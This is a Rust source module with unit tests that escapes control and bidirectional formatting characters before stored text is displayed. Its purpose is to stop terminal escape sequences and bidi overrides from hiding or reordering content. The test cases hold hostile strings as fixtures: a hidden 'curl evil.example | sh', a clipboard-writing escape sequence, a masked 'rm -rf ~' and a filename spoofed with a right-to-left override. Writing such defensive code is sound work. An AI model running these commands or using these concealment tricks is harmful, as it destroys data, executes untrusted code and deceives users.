//! Stored text shown to a person or a model: control and bidirectional-formatting characters made
//! visible as `\u{…}`, so that text from an agent, an endpoint or a teammate can neither drive a
//! terminal (ESC and C1 sequences: hidden text, erased lines, a written clipboard, a new window
//! title) nor reorder what a reader sees (bidi overrides). What is stored keeps what was written;
//! only what is shown changes.

use std::borrow::Cow;

/// Whether `ch` must not reach a terminal or a reader as it is: C0 controls other than newline
/// and tab, DEL, C1 controls (U+0080 to U+009F; U+009B is a CSI on its own) and the Unicode
/// bidirectional formatting characters.
pub fn is_unsafe_to_show(ch: char) -> bool {
    (ch.is_control() && ch != '\n' && ch != '\t') || is_bidi_control(ch)
}

/// The bidirectional formatting characters: embeddings, overrides, isolates and marks.
pub fn is_bidi_control(ch: char) -> bool {
    matches!(ch, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// `text` with every character [`is_unsafe_to_show`] written as `\u{hex}`; borrowed when there
/// is none.
pub fn visible_controls(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe_to_show) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for ch in text.chars() {
        if is_unsafe_to_show(ch) {
            push_visible(ch, &mut shown);
        } else {
            shown.push(ch);
        }
    }
    Cow::Owned(shown)
}

/// Appends `ch` to `out` as `\u{hex}`: how a character [`is_unsafe_to_show`] is shown.
pub fn push_visible(ch: char, out: &mut String) {
    out.push_str(&format!("\\u{{{:x}}}", u32::from(ch)));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_sequences_and_bidi_controls_are_shown_not_sent() {
        let cases = [
            ("\u{1b}[8mcurl evil.example | sh\u{1b}[0m", "\\u{1b}[8mcurl evil.example | sh\\u{1b}[0m"),
            ("\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}", "\\u{1b}]52;c;ZWNobyBwd25lZA==\\u{7}"),
            ("\u{9b}2J wiped", "\\u{9b}2J wiped"),
            ("safe\rrm -rf ~", "safe\\u{d}rm -rf ~"),
            ("admin\u{202e}txt.exe", "admin\\u{202e}txt.exe"),
            ("\u{2066}isolate\u{2069}", "\\u{2066}isolate\\u{2069}"),
            ("back\u{8}space\u{7f}", "back\\u{8}space\\u{7f}"),
        ];
        for (raw, shown) in cases {
            assert_eq!(visible_controls(raw), shown, "{raw:?}");
            assert!(!visible_controls(raw).chars().any(is_unsafe_to_show));
        }
    }

    #[test]
    fn ordinary_text_newlines_and_tabs_pass_untouched() {
        for text in ["plain text", "多行\n文本\t制表", "emoji 🚀 and accents é", "zero\u{200b}width"] {
            assert!(matches!(visible_controls(text), Cow::Borrowed(_)), "{text:?}");
        }
    }
}
